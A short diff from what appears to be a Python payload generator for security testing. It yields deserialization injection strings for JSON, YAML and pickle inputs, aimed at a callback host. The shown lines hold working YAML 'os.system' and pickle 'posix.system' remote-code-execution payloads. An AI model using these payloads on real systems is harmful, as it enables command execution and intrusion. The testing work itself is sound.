@@ -43,7 +43,7 @@ def payloads(opportunity: Opportunity, host: str) -> Iterator[object]:
         function = _SERIALIZED.format(send=send)
         yield json.dumps({"goatherd": function})
         yield function
-    elif place == "yaml":
+    elif place == "yaml" and not opportunity.note.get("safe"):  # what is let through there may run elsewhere
         yield f'!!python/object/apply:os.system ["{send}"]'
     elif place == "pickle":
         yield f"cposix\nsystem\n(S'{send}'\ntR."
